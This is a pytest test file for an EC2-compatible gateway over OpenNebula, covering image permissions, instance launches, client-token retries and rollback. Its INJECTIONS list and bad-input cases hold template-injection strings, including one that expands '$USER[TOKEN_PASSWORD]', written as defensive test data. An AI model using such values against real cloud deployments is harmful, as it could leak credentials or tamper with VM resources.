"""The engine against a live onesim (speed 0), acting as real users through server_cipher."""

from __future__ import annotations

import base64
import shutil
import time
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from lxml import etree

from econe.engine import Engine
from econe.errors import Ec2Error
from tests.engine.conftest import AMI, Sim, code_of, run
from tests.engine.test_mappings import extended_mappings

EC2_USER_ATTRS = {"EC2_INSTANCE_TYPE", "IMAGE_ID", "EC2_RESERVATION_ID", "EC2_LAUNCH_INDEX"}


@pytest.fixture(scope="module")
def eve(sim: Sim) -> str:
    sim.as_admin("one.user.allocate", "eve", "evepw", "core", [1])
    return "eve"


def launch(engine, user: str = "demo", **body: Any) -> dict:
    return run(engine, "RunInstances", {"ImageId": AMI, **body}, user=user)


def ids(result: dict) -> list[str]:
    return [i["InstanceId"] for r in result.get("Reservations", [result]) for i in r["Instances"]]


def vm_number(instance_id: str) -> int:
    return int(instance_id.split("-")[1])


def user_template(sim: Sim, instance_id: str) -> etree._Element:
    return sim.vm(vm_number(instance_id)).find("USER_TEMPLATE")


def my_vms(sim: Sim, state: int = -1) -> set[int]:
    """Ids of every VM (not DONE ones unless state=-2)."""
    pool = etree.fromstring(sim.as_admin("one.vmpool.info", -2, -1, -1, state).encode())
    return {int(v.findtext("ID")) for v in pool.iterfind("VM")}


# -- images ------------------------------------------------------------------------------------


def test_register_describe_deregister(sim: Sim, engine) -> None:
    images = run(engine, "DescribeImages", {"Owner": ["self"]}, user="demo")["Images"]
    assert [i["ImageId"] for i in images] == [AMI]
    assert images[0]["Name"] == "ttylinux" and images[0]["State"] == "available"
    assert (
        run(engine, "DescribeImages", {"ImageId": ["ami-0"]}, user="demo")["Images"][0]["ImageId"]
        == AMI
    )
    for body, code in (
        ({"ImageId": ["ami-7"]}, "InvalidAMIID.NotFound"),
        ({"ImageId": ["ami-x7"]}, "InvalidAMIID.Malformed"),
        ({"Filter": [{"Name": "colour", "Value": ["x"]}]}, "InvalidParameterValue"),
    ):
        with pytest.raises(Ec2Error) as err:
            run(engine, "DescribeImages", body, user="demo")
        assert err.value.code == code
    body = {
        "Filter": [{"Name": "name", "Value": ["tty*"]}, {"Name": "state", "Value": ["available"]}]
    }
    assert len(run(engine, "DescribeImages", body, user="demo")["Images"]) == 1
    assert run(engine, "DeregisterImage", {"ImageId": AMI}, user="demo") == {"Return": True}
    assert run(engine, "DescribeImages", {}, user="demo")["Images"] == []
    assert "ttylinux" in sim.as_admin("one.image.info", 0)  # the OpenNebula image stays
    with pytest.raises(Ec2Error, match="InvalidAMIID.NotFound"):
        run(engine, "DeregisterImage", {"ImageId": AMI}, user="demo")
    with pytest.raises(Ec2Error, match="InvalidAMIID.NotFound"):
        launch(engine)
    assert run(engine, "RegisterImage", {"Name": "ttylinux"}, user="demo") == {"ImageId": AMI}
    # registered again as it is: the same AMI; with another name or tags: refused (EC2 would
    # make a new AMI; here the image is the AMI, and its users would see it change)
    assert run(engine, "RegisterImage", {"ImageLocation": "0"}, user="demo") == {"ImageId": AMI}
    named = {"ImageLocation": AMI, "Name": "tty (renamed)"}
    assert code_of(run, engine, "RegisterImage", named, user="demo") == "InvalidParameterValue"
    assert run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"][0]["Name"] == (
        "ttylinux"
    )
    run(engine, "DeregisterImage", {"ImageId": AMI}, user="demo")
    # with ImageLocation, Name names the AMI (as `aws ec2 register-image` always sends one)
    assert run(engine, "RegisterImage", named, user="demo") == {"ImageId": AMI}
    assert run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"][0]["Name"] == (
        "tty (renamed)"
    )
    for name in ("x", "a" * 129, "bad|name"):
        bad = {"ImageLocation": AMI, "Name": name}
        assert code_of(run, engine, "RegisterImage", bad, user="demo") == "InvalidAMIName.Malformed"
    tagged = {
        "ImageLocation": AMI,
        "Name": "ttylinux",
        "TagSpecification": [{"ResourceType": "image", "Tag": [{"Key": "os", "Value": "tty"}]}],
    }
    run(engine, "DeregisterImage", {"ImageId": AMI}, user="demo")
    run(engine, "RegisterImage", tagged, user="demo")
    (image,) = run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"]
    assert image["Tags"] == [{"Key": "os", "Value": "tty"}]
    # deregistered, the AMI is gone with its tags (EC2): registered again, it has none
    run(engine, "DeregisterImage", {"ImageId": AMI}, user="demo")
    assert "<EC2_TAGS><KEY>" not in sim.as_admin("one.image.info", 0)
    run(engine, "RegisterImage", {"ImageLocation": AMI, "Name": "ttylinux"}, user="demo")
    (image,) = run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"]
    assert image["Tags"] == []
    with pytest.raises(Ec2Error, match="InvalidParameterValue"):
        run(engine, "RegisterImage", {"ImageLocation": "s3://bucket/x.manifest"}, user="demo")
    with pytest.raises(Ec2Error, match="InvalidAMIID.NotFound"):
        run(engine, "RegisterImage", {"ImageLocation": "ami-44"}, user="demo")
    # disabled in OpenNebula: DescribeImages hides it, and DeregisterImage does not find it
    sim.as_admin("one.image.enable", 0, False)
    try:
        assert run(engine, "DescribeImages", {}, user="demo")["Images"] == []
        assert code_of(run, engine, "DeregisterImage", {"ImageId": AMI}, user="demo") == (
            "InvalidAMIID.NotFound"
        )
    finally:
        sim.as_admin("one.image.enable", 0, True)


def test_register_refuses_volumes_and_others_images(sim: Sim, engine, eve: str) -> None:
    with pytest.raises(Ec2Error) as err:
        run(engine, "RegisterImage", {"ImageLocation": AMI}, user=eve)  # not visible to eve
    assert err.value.code == "InvalidAMIID.NotFound"
    assert run(engine, "DescribeImages", {}, user=eve)["Images"] == []
    sim.as_admin("one.image.update", 0, 'EBS_VOLUME="YES"', 1)
    try:
        with pytest.raises(Ec2Error, match="volume"):
            run(engine, "RegisterImage", {"ImageLocation": AMI}, user="demo")
    finally:
        sim.as_admin("one.image.update", 0, 'EBS_VOLUME="NO"', 1)
    # shared with eve (USE): she sees the AMI, and registering it again is still not hers
    sim.as_admin("one.image.chmod", 0, -1, -1, -1, -1, -1, -1, 1, -1, -1)
    try:
        for body in ({"ImageLocation": AMI}, {"ImageLocation": AMI, "Description": "mine"}):
            assert code_of(run, engine, "RegisterImage", body, user=eve) == "UnauthorizedOperation"
    finally:
        sim.as_admin("one.image.chmod", 0, -1, -1, -1, -1, -1, -1, 0, -1, -1)


def test_only_its_owner_deregisters_or_registers_an_ami_opennebula_lets_others_manage(
    sim: Sim, engine, eve: str
) -> None:
    """OpenNebula may grant another user MANAGE on an AMI (group USE+MANAGE); EC2 lets only the
    owner deregister it or register it again: eve can neither take demo's AMI away nor rename
    and tag it as a registration of hers, dry run or not."""
    number = int(AMI.split("-")[1])
    sim.as_admin("one.image.chmod", number, -1, -1, -1, 1, 1, -1, -1, -1, -1)
    renamed = {
        "ImageLocation": "ami-0",
        "Name": "eves-now",
        "Description": "taken",
        "TagSpecification": [{"ResourceType": "image", "Tag": [{"Key": "by", "Value": "eve"}]}],
    }
    try:
        assert [i["ImageId"] for i in run(engine, "DescribeImages", {}, user=eve)["Images"]] == [
            AMI
        ]
        for action, body in (
            ("DeregisterImage", {"ImageId": AMI}),
            ("RegisterImage", {"ImageLocation": AMI}),
            ("RegisterImage", renamed),
        ):
            for dry_run in (False, True):
                with pytest.raises(Ec2Error) as err:
                    run(engine, action, {**body, "DryRun": dry_run}, user=eve)
                assert (err.value.code, err.value.status) == ("UnauthorizedOperation", 403)
                assert "demo" in err.value.message and AMI in err.value.message
        (image,) = run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"]
        assert (image["Name"], image["Description"], image["Tags"]) == (
            "ttylinux",
            "ttylinux demo image",
            [],
        )
        template = sim.as_admin("one.image.info", number)
        assert "eves-now" not in template and "taken" not in template
        # the owner still may, dry run first
        with pytest.raises(Ec2Error, match="DryRunOperation"):
            run(engine, "DeregisterImage", {"ImageId": AMI, "DryRun": True}, user="demo")
    finally:
        sim.as_admin("one.image.chmod", number, -1, -1, -1, 0, 0, -1, -1, -1, -1)


def test_register_names_the_id_it_was_given(sim: Sim, engine) -> None:
    """An EC2-form id names nothing here: NotFound echoes it, not econe's placeholder number."""
    for given in ("ami-0123456789abcdef0", "ami-01234567", "ami-00000044", "44"):
        with pytest.raises(Ec2Error) as err:
            run(engine, "RegisterImage", {"ImageLocation": given}, user="demo")
        assert err.value.code == "InvalidAMIID.NotFound"
        assert err.value.message == f"The image id '[{given}]' does not exist"


def test_public_means_everyone_may_launch_it(sim: Sim, engine, eve: str) -> None:
    """Public (and is-public, ExecutableBy all) is OpenNebula's OTHER USE; an AMI shared with
    the owner's group alone is not public, though its group sees it and may launch it."""
    number = int(AMI.split("-")[1])

    def shown(user: str, **body) -> list[tuple[str, bool]]:
        images = run(engine, "DescribeImages", body, user=user)["Images"]
        return [(i["ImageId"], i["Public"]) for i in images]

    public = {"Filter": [{"Name": "is-public", "Value": ["true"]}]}
    assert shown("demo") == [(AMI, False)]
    sim.as_admin("one.image.chmod", number, -1, -1, -1, 1, -1, -1, -1, -1, -1)  # group USE
    try:
        assert shown("demo") == shown(eve) == [(AMI, False)]
        assert shown("demo", **public) == shown("demo", ExecutableBy=["all"]) == []
        assert shown("demo", ExecutableBy=["eve"]) == [(AMI, False)]  # yours others may launch
        assert shown(eve, ExecutableBy=["self"]) == [(AMI, False)]
        sim.as_admin("one.image.chmod", number, -1, -1, -1, 0, -1, -1, 1, -1, -1)  # other USE
        assert (
            shown("demo")
            == shown("demo", **public)
            == shown(eve, ExecutableBy=["all"])
            == [(AMI, True)]
        )
    finally:
        sim.as_admin("one.image.chmod", number, -1, -1, -1, 0, -1, -1, 0, -1, -1)


def test_describe_images_pages_of_5_to_1000(sim: Sim, engine) -> None:
    """MaxResults as EC2 takes it for DescribeImages, 5 to 1000 (more gives a full page), as
    the spec says too (tests/e2e: the gateway's answer)."""
    for size in (5, 5000):
        assert len(run(engine, "DescribeImages", {"MaxResults": size}, user="demo")["Images"]) == 1
    for small in (4, 1, 0):
        body = {"MaxResults": small}
        assert code_of(run, engine, "DescribeImages", body, user="demo") == "InvalidParameterValue"


def set_image_state(sim: Sim, image_id: int, state: int) -> None:
    """The image's STATE, set in onesim's store (oned has no call for ERROR: a failed copy)."""
    store = sim.server.sim.store
    image = store.get("image", image_id)
    image["state"] = image["prev_state"] = state
    store.put("image", image)
    store.invalidate("image", image_id)


def test_an_ami_that_cannot_be_launched_is_a_client_error_and_launches_nothing(
    sim: Sim, engine
) -> None:
    """A failed AMI (image ERROR) or a persistent one another instance uses: 400
    InvalidAMIID.Unavailable naming the AMI (not InternalError, which SDKs retry), no VM left."""
    number = int(AMI.split("-")[1])
    before = my_vms(sim)
    set_image_state(sim, number, 5)
    sim.as_admin("one.image.update", number, 'ERROR="Mon Jan  1 : Error copying image"', 1)
    try:
        (image,) = run(engine, "DescribeImages", {"ImageId": [AMI]}, user="demo")["Images"]
        assert image["State"] == "failed"
        assert image["StateReason"] == {
            "Code": "Server.InternalError",
            "Message": "Server.InternalError: Mon Jan  1 : Error copying image",
        }
        with pytest.raises(Ec2Error) as err:
            launch(engine)
        assert (err.value.code, err.value.status) == ("InvalidAMIID.Unavailable", 400)
        assert AMI in err.value.message and "ERROR" in err.value.message
    finally:
        set_image_state(sim, number, 1)
        sim.as_admin("one.image.update", number, 'ERROR=""', 1)
    assert "StateReason" not in run(engine, "DescribeImages", {}, user="demo")["Images"][0]
    assert my_vms(sim) == before
    sim.as_admin("one.image.persistent", number, True)
    try:
        (first,) = ids(launch(engine))  # the persistent image is this instance's now
        for body in ({}, {"MinCount": 1, "MaxCount": 1}):
            with pytest.raises(Ec2Error) as err:
                launch(engine, **body)
            assert (err.value.code, err.value.status) == ("InvalidAMIID.Unavailable", 400)
            assert AMI in err.value.message and "persistent" in err.value.message
        assert my_vms(sim) == before | {vm_number(first)}
        run(engine, "TerminateInstances", {"InstanceId": [first]}, user="demo")
        # two at once: oned refuses the second disk; below MinCount the first is rolled back
        with pytest.raises(Ec2Error) as err:
            launch(engine, MinCount=2, MaxCount=2)
        assert (err.value.code, err.value.status) == ("InvalidAMIID.Unavailable", 400)
        assert "persistent" in err.value.message
        assert my_vms(sim) == before
        (only,) = ids(launch(engine, MinCount=1, MaxCount=3))  # as many as can be: one
        run(engine, "TerminateInstances", {"InstanceId": [only]}, user="demo")
    finally:
        sim.as_admin("one.image.persistent", number, False)


def impatient_engine(sim: Sim) -> Engine:
    """An engine that gives up on oned after 0.5 s (:one_timeout: 0.5)."""
    from econe.one.client import OneClient
    from econe.one.session import ServerCipherSessions

    return Engine(
        sim.config(one_timeout=0.5),
        OneClient(sim.url, timeout=0.5),
        ServerCipherSessions(sim.ec2_auth),
    )


# -- RunInstances ------------------------------------------------------------------------------


def test_run_file_type_writes_exactly_the_intended_template(sim: Sim, engine) -> None:
    data = base64.b64encode(b"#!/bin/sh\necho hi\n").decode()
    result = launch(
        engine,
        InstanceType="m1.small",
        UserData=data,
        ClientToken="tok-file-1",
        Placement={"AvailabilityZone": "opennebula"},
    )
    assert result["ReservationId"].startswith("r-") and result["OwnerId"] == "demo"
    (inst,) = result["Instances"]
    assert inst["ImageId"] == AMI and inst["InstanceType"] == "m1.small"
    assert inst["State"]["Name"] in ("pending", "running") and inst["ClientToken"] == "tok-file-1"
    vm = sim.vm(vm_number(inst["InstanceId"]))
    assert vm.findtext("NAME") == "eco-vm" and vm.findtext("TEMPLATE/MEMORY") == "256"
    assert [d.findtext("IMAGE_ID") for d in vm.findall("TEMPLATE/DISK")] == ["0"]
    assert vm.findtext("TEMPLATE/NIC/NETWORK_ID") == "0"
    ctx = vm.find("TEMPLATE/CONTEXT")
    assert ctx.findtext("USERDATA") == data and ctx.findtext("EC2_USER_DATA") == data
    assert ctx.findtext("USERDATA_ENCODING") == "base64"
    ut = {c.tag: c.text for c in vm.find("USER_TEMPLATE")}
    assert len(ut.pop("EC2_REQUEST_DIGEST")) == 32  # the token's request, for its retries
    assert ut == {
        "EC2_INSTANCE_TYPE": "m1.small",
        "IMAGE_ID": AMI,
        "EC2_CLIENT_TOKEN": "tok-file-1",
        "EC2_LAUNCH_COUNT": "1",  # how many the launch makes, for its retries
        "EC2_RESERVATION_ID": result["ReservationId"],
        "EC2_LAUNCH_INDEX": "0",
    }


def test_run_vm_template_type_puts_the_ami_first(sim: Sim) -> None:
    eng = sim.engine(instance_types={})  # only OpenNebula templates with EC2_INSTANCE_TYPE
    try:
        (inst,) = launch(eng, InstanceType="m1.small")["Instances"]
        vm = sim.vm(vm_number(inst["InstanceId"]))
        assert vm.findtext("TEMPLATE/TEMPLATE_ID") == "0"
        assert vm.findtext("TEMPLATE/DISK/IMAGE_ID") == "0"
        assert vm.findtext("TEMPLATE/MEMORY") == "256" and vm.findtext("TEMPLATE/CPU") == "1"
        assert vm.findtext("TEMPLATE/CONTEXT/NETWORK") == "YES"
        assert inst["InstanceType"] == "m1.small"
        with pytest.raises(Ec2Error) as err:
            launch(eng, InstanceType="c5.large")
        assert err.value.code == "InvalidParameterValue" and "c5.large" in err.value.message
    finally:
        eng.close()


# `$…`: oned would expand it in CONTEXT (TOKEN_PASSWORD is in every user's template), or refuse
# the VM for a `$` that starts no variable
INJECTIONS = [
    'x"\nMEMORY="1',
    "x]\nCPU=9\nY=[Z=1",
    '\\"',
    "$USER[TOKEN_PASSWORD]",
    "$UNAME x",
    "$NETWORK[",
    "a\tb'c<d>&e",
]


@pytest.mark.parametrize("evil", INJECTIONS)
def test_request_values_cannot_break_out(sim: Sim, engine, evil: str) -> None:
    # Key names are printable ASCII (quotes, brackets, `$` included); the rest go elsewhere.
    key_name = evil.replace("\n", " ").replace("\t", " ")
    key = ed25519.Ed25519PrivateKey.generate().public_key()
    line = key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    run(
        engine,
        "ImportKeyPair",
        {"KeyName": key_name, "PublicKeyMaterial": base64.b64encode(line).decode()},
        user="demo",
    )
    token = "".join(c for c in evil if " " < c <= "~")[:64] or "t"  # ASCII, no blanks
    before = my_vms(sim)
    result = launch(
        engine,
        ClientToken=token,
        KeyName=key_name,
        TagSpecification=[
            {
                "ResourceType": "instance",
                "Tag": [{"Key": "Name", "Value": evil}, {"Key": evil, "Value": "v"}],
            }
        ],
    )
    (inst,) = result["Instances"]
    assert my_vms(sim) - before == {vm_number(inst["InstanceId"])}
    vm = sim.vm(vm_number(inst["InstanceId"]))
    assert vm.findtext("TEMPLATE/MEMORY") == "256" and vm.findtext("TEMPLATE/CPU") == "0.2"
    ut = vm.find("USER_TEMPLATE")
    assert sorted(c.tag for c in ut) == sorted(
        [*EC2_USER_ATTRS, "EC2_CLIENT_TOKEN", "EC2_REQUEST_DIGEST", "EC2_LAUNCH_COUNT"]
        + ["EC2_KEYNAME", "EC2_TAGS", "EC2_TAGS"]
    )
    assert ut.findtext("EC2_CLIENT_TOKEN") == token and ut.findtext("EC2_KEYNAME") == key_name
    assert inst["Tags"] == [{"Key": "Name", "Value": evil}, {"Key": evil, "Value": "v"}]
    assert inst["KeyName"] == key_name
    assert {c.tag for c in vm.find("TEMPLATE")} & {"Y", "Z"} == set()
    assert vm.findtext("TEMPLATE/CONTEXT/SSH_PUBLIC_KEY") == line.decode()
    assert vm.find("TEMPLATE/CONTEXT/EC2_KEYNAME") is None  # USER_TEMPLATE only: never expanded


def test_unknown_key_pair_is_refused_and_launches_nothing(sim: Sim, engine) -> None:
    before = my_vms(sim)
    with pytest.raises(Ec2Error) as exc:
        launch(engine, KeyName="never-created")
    assert exc.value.code == "InvalidKeyPair.NotFound" and "never-created" in exc.value.message
    assert my_vms(sim) == before


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"UserData": "not base64!"}, "InvalidParameterValue"),
        ({"ImageId": 'ami-0"\nX=1'}, "InvalidAMIID.Malformed"),
        ({"ImageId": "ami-00000099"}, "InvalidAMIID.NotFound"),
        ({"InstanceType": 'm1.small"\nCPU=8'}, "InvalidParameterValue"),
        ({"MinCount": 3, "MaxCount": 2}, "InvalidParameterValue"),
        ({"ClientToken": "x\x00y"}, "InvalidParameterValue"),
        # OpenNebula would keep these otherwise than sent, so a retry would launch again
        ({"ClientToken": "retry-me "}, "InvalidParameterValue"),
        ({"ClientToken": " retry-me"}, "InvalidParameterValue"),
        ({"ClientToken": "retry\rme"}, "InvalidParameterValue"),
        ({"ClientToken": "r\u00e9essai"}, "InvalidParameterValue"),
        ({"ClientToken": "x" * 65}, "InvalidParameterValue"),
        ({"Placement": {"AvailabilityZone": "us-east-1a"}}, "InvalidParameterValue"),
    ],
)
def test_run_refuses_bad_input_and_creates_nothing(sim: Sim, engine, body: dict, code: str) -> None:
    before = my_vms(sim)
    with pytest.raises(Ec2Error) as err:
        launch(engine, **body)
    assert err.value.code == code
    if code == "InvalidParameterValue" and "UserData" in body:
        assert err.value.message == "Invalid BASE64 encoding of user data"
    assert my_vms(sim) == before


class FailAllocation:
    """Passes calls through; arms onesim's fault hook so that the `nth` one.vm.allocate fails
    with an oned quota refusal (after `before()`, when given)."""

    def __init__(self, sim: Sim, nth: int, before: Any = None):
        self.sim, self.client, self.nth, self.before = sim, sim.client, nth, before
        self.allocations = 0

    def call(self, session: str, method: str, *args: Any) -> Any:
        if method == "one.vm.allocate":
            self.allocations += 1
            if self.allocations == self.nth:
                if self.before is not None:
                    self.before()
                self.sim.as_admin(
                    "onesim.fault.set",
                    method,
                    0x800,
                    "User [2] : limit of 2 reached for VMS quota",
                    0,
                    1,
                )
        return self.client.call(session, method, *args)


def test_min_count_is_all_or_nothing(sim: Sim, engine) -> None:
    before, before_all = my_vms(sim), my_vms(sim, -2)
    engine.one = FailAllocation(sim, 3)
    try:
        with pytest.raises(Ec2Error) as err:
            launch(engine, MinCount=3, MaxCount=4)
        assert err.value.code == "InstanceLimitExceeded"
        assert my_vms(sim) == before  # nothing left running
        leftover = my_vms(sim, -2) - before_all
        assert all(sim.vm(v).findtext("STATE") == "6" for v in leftover)  # terminated
        assert len(leftover) == 2
        engine.one = FailAllocation(sim, 3)
        result = launch(engine, MinCount=2, MaxCount=4)  # partial success is fine above MinCount
        assert [i["AmiLaunchIndex"] for i in result["Instances"]] == [0, 1]
    finally:
        engine.one = sim.client
        sim.as_admin("onesim.fault.clear")


def test_rolled_back_launch_leaves_its_token_free(sim: Sim, engine) -> None:
    """The VMs of a launch below MinCount are marked, terminated and hidden: a retry with the
    same ClientToken launches anew instead of answering with the terminated leftovers."""
    before_all = my_vms(sim, -2)
    engine.one = FailAllocation(sim, 3)
    try:
        with pytest.raises(Ec2Error, match="InstanceLimitExceeded"):
            launch(engine, MinCount=3, MaxCount=3, ClientToken="rolled-back")
    finally:
        engine.one = sim.client
        sim.as_admin("onesim.fault.clear")
    leftover = my_vms(sim, -2) - before_all
    assert len(leftover) == 2
    for vm_id in leftover:
        vm = sim.vm(vm_id)
        assert vm.findtext("STATE") == "6" and vm.findtext("USER_TEMPLATE/EC2_ROLLED_BACK")
    listed = ids(run(engine, "DescribeInstances", {}, user="demo"))
    assert not {f"i-{v:08d}" for v in leftover} & set(listed)
    with pytest.raises(Ec2Error, match="InvalidInstanceID.NotFound"):
        run(engine, "DescribeInstances", {"InstanceId": [f"i-{min(leftover):08d}"]}, user="demo")
    again = launch(engine, MinCount=3, MaxCount=3, ClientToken="rolled-back")
    assert len(ids(again)) == 3 and not {vm_number(i) for i in ids(again)} & leftover
    assert {i["State"]["Name"] for i in again["Instances"]} <= {"pending", "running"}


def until_the_last_vm_is_in_prolog(sim: Sim) -> None:
    """Wait until the newest VM is in PROLOG (oned refuses to terminate it there); onesim is
    slowed by the test so that it stays there a while."""
    first = max(my_vms(sim))
    deadline = time.monotonic() + 10
    while sim.vm(first).findtext("LCM_STATE") != "1":
        assert time.monotonic() < deadline, "the first VM never reached PROLOG"
        time.sleep(0.05)


def test_rollback_terminates_a_vm_in_prolog_once_oned_lets_it(sim: Sim, engine) -> None:
    before = my_vms(sim)
    engine.one = FailAllocation(sim, 2, lambda: until_the_last_vm_is_in_prolog(sim))
    sim.server.sim.speed = 0.5  # seconds per life-cycle step
    try:
        with pytest.raises(Ec2Error, match="InstanceLimitExceeded"):
            launch(engine, MinCount=2, MaxCount=2)
        (vm_id,) = my_vms(sim) - before
        assert sim.vm(vm_id).findtext("USER_TEMPLATE/EC2_TERMINATE_REQUESTED")
        deadline = time.monotonic() + 20
        while sim.vm(vm_id).findtext("STATE") != "6":  # terminated once it left PROLOG/BOOT
            assert time.monotonic() < deadline, sim.vm(vm_id).findtext("LCM_STATE")
            time.sleep(0.1)
    finally:
        sim.server.sim.speed = 0
        engine.one = sim.client
        sim.as_admin("onesim.fault.clear")


def test_what_cannot_be_honoured_is_refused_not_dropped(sim: Sim, engine) -> None:
    """A protection or a count the cloud cannot give is an error naming the parameter, never
    a silent success (the user would rely on it); nothing is created."""
    before = my_vms(sim)
    with pytest.raises(Ec2Error) as err:
        launch(engine, MinCount=101, MaxCount=200)
    assert err.value.code == "InstanceLimitExceeded" and "MinCount 101" in err.value.message
    assert my_vms(sim) == before  # (DisableApiTermination, Encrypted: the spec, tests/e2e)
    (iid,) = ids(launch(engine, DisableApiTermination=False))  # the default is fine
    for name, value in (("tenancy", "default"), ("root-device-type", "ebs"), ("dns-name", "")):
        body = {"InstanceId": [iid], "Filter": [{"Name": name, "Value": [value]}]}
        assert ids(run(engine, "DescribeInstances", body, user="demo")) == [iid], name
    run(engine, "TerminateInstances", {"InstanceId": [iid]}, user="demo")


def test_cluster_id_places_every_instance(sim: Sim) -> None:
    """`:cluster_id:` (seed): instances go to that cluster, unless their template says where."""
    clustered = sim.engine(cluster_id=100)
    try:
        (iid,) = ids(launch(clustered))
        vm = sim.vm(vm_number(iid))  # oned keeps SCHED_* in the user template
        assert vm.findtext("USER_TEMPLATE/SCHED_REQUIREMENTS") == "CLUSTER_ID = 100"
    finally:
        clustered.close()


def test_client_token_with_other_parameters_is_refused(sim: Sim, engine) -> None:
    first = launch(engine, ClientToken="one-use-only")
    before = my_vms(sim)
    with pytest.raises(Ec2Error) as err:
        launch(engine, ClientToken="one-use-only", InstanceType="m1.large")
    assert err.value.code == "IdempotentParameterMismatch" and err.value.status == 400
    assert my_vms(sim) == before
    assert ids(launch(engine, ClientToken="one-use-only")) == ids(first)


def test_client_token_retry_from_another_gateway(sim: Sim, engine) -> None:
    first = launch(engine, MinCount=2, MaxCount=2, ClientToken="retry-me")
    other = sim.engine()
    try:
        before = my_vms(sim)
        again = launch(other, MinCount=2, MaxCount=2, ClientToken="retry-me")
        assert my_vms(sim) == before
        assert again["ReservationId"] == first["ReservationId"]
        assert ids(again) == ids(first)
    finally:
        other.close()
    described = run(
        engine,
        "DescribeInstances",
        {"Filter": [{"Name": "client-token", "Value": ["retry-me"]}]},
        user="demo",
    )
    assert [r["ReservationId"] for r in described["Reservations"]] == [first["ReservationId"]]


def test_concurrent_retries_with_one_token_launch_once(sim: Sim, engine) -> None:
    """An SDK that retries while the first request still waits for oned: in one gateway
    process, the retry waits for it and answers what it made."""
    from concurrent.futures import ThreadPoolExecutor

    sim.as_admin("onesim.fault.set", "one.vm.allocate", 0, "", 0.3, 2)  # slow, not failing
    before = my_vms(sim)
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: launch(engine, ClientToken="in-flight"), range(4)))
    assert len(my_vms(sim) - before) == 1
    assert len({a["ReservationId"] for a in answers}) == 1


def test_a_token_whose_launch_oned_finished_too_late_launches_again(sim: Sim) -> None:
    """oned made the VM after econe had stopped waiting (Unavailable, nothing to roll back):
    the retry finds fewer VMs than MinCount under the token, rolls them back and launches."""
    impatient = impatient_engine(sim)
    try:
        sim.as_admin("onesim.fault.set", "one.vm.allocate", 0, "", 1.0, 1)
        body = {"MinCount": 2, "MaxCount": 2, "ClientToken": "too-late"}
        with pytest.raises(Ec2Error) as err:
            launch(impatient, **body)
        assert err.value.code == "Unavailable"
        time.sleep(1.0)  # onesim makes the VM once its delay is over
        late = {vm_number(i["InstanceId"]) for i in launch_filter(impatient, "too-late")}
        assert len(late) == 1
        # as long as the launch could still be going on (in another gateway): try again later
        with pytest.raises(Ec2Error) as err:
            launch(impatient, **body)
        assert err.value.code == "Unavailable" and "in progress" in err.value.message
        time.sleep(2.5)  # over 2 × one_timeout + 1 s since the VM was made: that launch is over
        again = launch(impatient, **body)
        assert len(again["Instances"]) == 2
        assert [i["AmiLaunchIndex"] for i in again["Instances"]] == [0, 1]
        assert not late & {vm_number(i["InstanceId"]) for i in again["Instances"]}
        shown = launch_filter(impatient, "too-late")
        assert {i["InstanceId"] for i in shown} == {i["InstanceId"] for i in again["Instances"]}
        run(impatient, "TerminateInstances", {"InstanceId": ids(again)}, user="demo")
    finally:
        impatient.close()


def test_a_retry_while_oned_may_still_make_the_first_vm_launches_nothing(sim: Sim) -> None:
    """econe gave up waiting for oned's first VM (Unavailable) and none shows yet: a retry at
    once is Unavailable too (oned may still make it), then answers the VM oned made."""
    impatient = impatient_engine(sim)
    try:
        sim.as_admin("onesim.fault.set", "one.vm.allocate", 0, "", 1.0, 1)
        body = {"ClientToken": "first-vm-late"}
        with pytest.raises(Ec2Error) as err:
            launch(impatient, **body)
        assert err.value.code == "Unavailable"
        with pytest.raises(Ec2Error) as err:
            launch(impatient, **body)
        assert err.value.code == "Unavailable" and "in progress" in err.value.message
        time.sleep(1.0)  # onesim makes the VM once its delay is over
        (late,) = launch_filter(impatient, "first-vm-late")
        assert ids(launch(impatient, **body)) == [late["InstanceId"]]
        run(impatient, "TerminateInstances", {"InstanceId": [late["InstanceId"]]}, user="demo")
    finally:
        impatient.close()


def test_a_retry_answers_a_launch_that_ended_short_of_max_count_whole(sim: Sim, engine) -> None:
    """A launch past MinCount that oned stopped short of MaxCount writes how many it made on
    its VMs: a retry (here through another gateway's engine) answers them at once."""
    engine.one = FailAllocation(sim, 3)
    try:
        first = launch(engine, MinCount=1, MaxCount=4, ClientToken="short")
    finally:
        engine.one = sim.client
        sim.as_admin("onesim.fault.clear")
    assert len(first["Instances"]) == 2
    other = sim.engine()
    try:
        before = my_vms(sim)
        again = launch(other, MinCount=1, MaxCount=4, ClientToken="short")
        assert ids(again) == ids(first) and my_vms(sim) == before
    finally:
        other.close()
    run(engine, "TerminateInstances", {"InstanceId": ids(first)}, user="demo")


def test_a_launch_whose_gateway_stopped_midway_is_final_after_its_window(sim: Sim) -> None:
    """Two VMs of a launch meant to make four, and no gateway to finish it (the first one
    crashed): retries are Unavailable while it could still be going on, then answer the two
    (MinCount reached) instead of Unavailable for ever."""
    impatient = impatient_engine(sim)  # its window: 2 × 0.5 s + 1 s
    session = impatient.sessions.session_for("demo")
    made = []
    for index in range(2):
        tmpl = (
            'NAME = x\nCPU = 0.2\nMEMORY = 64\nEC2_CLIENT_TOKEN = "crashed"\n'
            f'EC2_RESERVATION_ID = "r-crashed"\nEC2_LAUNCH_INDEX = "{index}"\n'
            'EC2_LAUNCH_COUNT = "4"\nEC2_INSTANCE_TYPE = "m1.small"\n'
        )
        made.append(sim.client.call(session, "one.vm.allocate", tmpl, False))
    try:
        body = {"MinCount": 1, "MaxCount": 4, "ClientToken": "crashed"}
        with pytest.raises(Ec2Error) as err:
            launch(impatient, **body)
        assert err.value.code == "Unavailable" and "in progress" in err.value.message
        time.sleep(2.2)
        before = my_vms(sim)
        again = launch(impatient, **body)
        assert {vm_number(i) for i in ids(again)} == set(made) and my_vms(sim) == before
        run(impatient, "TerminateInstances", {"InstanceId": ids(again)}, user="demo")
    finally:
        impatient.close()


def launch_filter(engine, token: str) -> list[dict]:
    """The instances DescribeInstances shows for a client token."""
    body = {"Filter": [{"Name": "client-token", "Value": [token]}]}
